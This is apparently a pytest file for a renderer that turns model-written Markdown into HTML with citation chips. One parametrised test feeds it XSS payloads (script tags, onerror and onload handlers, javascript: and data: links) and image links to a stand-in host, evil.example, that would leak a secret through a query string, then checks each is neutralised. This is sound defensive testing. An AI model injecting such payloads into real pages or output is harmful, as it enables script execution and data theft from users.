"""What the model writes: a little Markdown, chips for citations, and nothing that loads or leads elsewhere."""

import re

import pytest

from tests.ui.fakes import make_document, make_passage
from ui.render import render_answer, render_words

BEES = make_document("/notes/bees.md", "The queen leaves in May. Keep a box ready.", title='Bees "& co"')
ONE = {1: make_passage(BEES, evidence="Keep a box ready.")}


def test_a_marker_becomes_a_chip_that_opens_the_evidence() -> None:
    made = render_answer("Keep a box [1].", ONE)
    start = BEES.text.index("Keep")
    assert f'href="/source/{BEES.id}?start={start}&amp;end={len(BEES.text)}#passage"' in made
    assert made.startswith('<p>Keep a box<a class="cite"')
    assert made.rstrip().endswith("1</a>.</p>")


def test_several_markers_side_by_side() -> None:
    two = {**ONE, 2: make_passage(BEES, 2)}
    assert len(re.findall('class="cite"', render_answer("Yes [1][2], no [1].", two))) == 3


def test_a_marker_without_a_passage_stays_text() -> None:
    made = render_answer("So it is [7].", ONE)
    assert made == "<p>So it is [7].</p>\n"


def test_markers_in_code_stay_code() -> None:
    assert "cite" not in render_answer("`a[1]` and\n\n```\nb[1]\n```", ONE)


def test_lists_and_emphasis() -> None:
    made = render_answer("- **one**\n- *two*", {})
    assert "<li><strong>one</strong></li>" in made
    assert "<em>two</em>" in made


def test_headings_are_all_of_one_size() -> None:
    assert render_answer("# Big", {}) == "<h4>Big</h4>\n"


@pytest.mark.parametrize(
    "written",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "![x][y]\n\n[y]: https://evil.example/pixel.png",
        "[click](javascript:alert(1))",
        "[click](https://evil.example)",
        "<https://evil.example>",
        "https://evil.example/ and www.evil.example",
        "[1]: https://evil.example 'title'\n\n[1]",
        "[1](https://evil.example)",
        "<svg/onload=alert(1)>",
        "<a href='data:text/html,x'>x</a>",
        "&lt;img src=x onerror=alert(1)&gt;",
        "```html\n<iframe src=//evil.example></iframe>\n```",
        '```"onmouseover=alert(1)\nx\n```',
    ],
)
def test_nothing_loads_runs_or_leads_elsewhere(written: str) -> None:
    made = render_answer(written, ONE)
    elements = re.findall(r"<(\w+)([^>]*)>", made)
    assert {name for name, _ in elements} <= {"p", "a", "pre", "code"}
    for name, attributes in elements:
        assert name != "a" or re.search(r'href="/source/[0-9a-f]{32}\?', attributes)
        assert not re.search(r'\s(on\w+|src|style)=(?=[^"]*(?:"[^"]*"[^"]*)*$)', attributes)


def test_a_title_cannot_leave_its_attribute() -> None:
    assert 'aria-label="Source 1: Bees &quot;&amp; co&quot;"' in render_answer("[1]", ONE)


def test_plain_words_are_paragraphs() -> None:
    assert render_words("a < b\n\n\nc") == "<p>a &lt; b</p><p>c</p>"
